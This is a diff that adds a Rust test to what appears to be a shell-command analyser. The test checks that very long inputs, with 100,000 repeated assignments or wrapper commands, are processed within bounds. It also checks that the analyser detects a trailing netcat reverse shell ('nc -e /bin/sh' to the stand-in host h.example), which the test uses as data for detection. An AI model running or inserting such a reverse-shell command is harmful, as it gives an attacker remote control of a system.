@@ -453,6 +453,32 @@ fn hostile_input_is_bounded() {
     assert!(acts_of(Language::Shell, cases[16].as_bytes()).1);
 }
 
+#[test]
+fn words_by_the_hundred_thousand_are_bounded() {
+    let words = |word: &str, last: &[&str]| {
+        let mut words = vec![word.as_bytes().to_vec(); 100_000];
+        words.extend(last.iter().map(|word| word.as_bytes().to_vec()));
+        words
+    };
+    // In a thread with the stack that other programs' threads have.
+    let stack = std::thread::Builder::new().stack_size(2 << 20);
+    let reader = stack.spawn(move || {
+        let start = std::time::Instant::now();
+        let (acts, whole) = of_words(&words("A=b", &["nc", "-e", "/bin/sh", "h.example", "1"]));
+        assert!(whole && acts.iter().any(|act| act.deed == Deed::ConnectsShell), "{acts:?}");
+        for wrapper in ["nohup", "env", "exec", "sudo", "nice", "busybox", "timeout", "xargs", "torsocks"] {
+            let (_, whole) = of_words(&words(wrapper, &["nc", "-e", "/bin/sh", "h.example", "1"]));
+            // A wrapper's own words, such as the time of `timeout`, may be the next wrapper.
+            assert!(!whole || ["timeout", "xargs", "exec"].contains(&wrapper), "{wrapper}");
+        }
+        assert!(start.elapsed().as_secs() < 60);
+    });
+    reader.unwrap().join().unwrap();
+    let few: Vec<Vec<u8>> =
+        "nohup nice env A=b setsid nc -e /bin/sh h.example 1".split(' ').map(|word| word.into()).collect();
+    assert!(of_words(&few).0.iter().any(|act| act.deed == Deed::ConnectsShell));
+}
+
 proptest! {
     #[test]
     fn nothing_panics(text in "[a-z|&;<>()$`'\"{}=/:. \n-]{0,200}", which in 0_usize..7) {
